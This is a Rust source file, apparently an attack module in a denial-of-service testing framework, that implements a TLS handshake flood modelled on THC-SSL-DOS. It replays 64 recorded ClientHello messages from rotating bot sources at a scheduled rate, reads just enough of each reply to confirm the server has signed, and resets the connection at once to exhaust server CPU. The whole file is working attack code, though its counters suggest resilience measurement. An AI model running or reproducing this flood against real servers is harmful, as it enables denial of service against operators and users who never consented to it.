//! `handshake-flood`: greetings that were recorded, sent again and never followed up: the server
//! signs, the sender does not

use std::{
    sync::{Arc, atomic::Ordering},
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    sync::Semaphore,
};

use crate::{
    chance::Chance,
    limits::FLIGHTS_MAX,
    measure::Schedule,
    target::Source,
    vectors::{Family, Front, Resource, Vector},
};

pub(super) const VECTOR: Vector = Vector {
    name: "handshake-flood",
    family: Family::Tls,
    models: "greetings that were recorded, sent again and never followed up: the server \
        signs, the sender does not",
    source: "THC-SSL-DOS (2011) and its successors; an honest client costs its sender twice \
        what it costs the server",
    parameters: "a pool of 64 ClientHello messages; each connection sends one, reads the first \
        bytes of the answer and resets",
    resource: Resource::Processor,
    room: None,
    attack: |front| Box::pin(attack(front)),
};

/// Greetings that are recorded first.
const GREETINGS: usize = 64;
/// Patience for the answer.
const PATIENCE: Duration = Duration::from_secs(5);

async fn attack(front: Arc<Front>) {
    let recorded: Vec<Vec<u8>> = (0..GREETINGS).filter_map(|_| front.dialer.greeting()).collect();
    let recorded = Arc::new(recorded);
    let flights = Arc::new(Semaphore::new(FLIGHTS_MAX));
    let moments = Chance::fork(front.seed, "moments");
    let mut schedule = Schedule::new(moments, front.offer.per_s, front.start, front.end);
    let mut chance = Chance::fork(front.seed, "visits");
    let mut burst = 0;
    while schedule.tick(&mut burst).await.is_some() {
        front.ledger.planned.fetch_add(1, Ordering::Relaxed);
        let Ok(flight) = Arc::clone(&flights).try_acquire_owned() else { continue };
        if front.is_over() {
            continue;
        }
        let (front, recorded) = (Arc::clone(&front), Arc::clone(&recorded));
        let (source, place) = (front.bots.one(&mut chance), chance.bits());
        tokio::spawn(async move {
            let place = usize::try_from(place % 64).unwrap_or(0);
            if let Some(greeting) = recorded.get(place) {
                front.ledger.offered.fetch_add(1, Ordering::Relaxed);
                greet(&front, source, greeting).await;
            }
            drop(flight);
        });
    }
}

async fn greet(front: &Front, source: Source, greeting: &[u8]) {
    let Ok(mut stream) = front.plain(source).await else { return };
    let mut space = [0; 64];
    let exchange = async {
        stream.write_all(greeting).await?;
        stream.read(&mut space).await
    };
    let counter = match tokio::time::timeout(PATIENCE, exchange).await {
        // A handshake record: the server has answered, and signed.
        Ok(Ok(read)) if read > 0 && space.first() == Some(&22) => &front.ledger.served,
        Ok(Ok(read)) if read > 0 => &front.ledger.refused,
        _ => &front.ledger.dropped,
    };
    counter.fetch_add(1, Ordering::Relaxed);
    // No farewell: the reset costs neither side a wait.
    let _ = socket2::SockRef::from(&stream).set_linger(Some(Duration::ZERO));
}
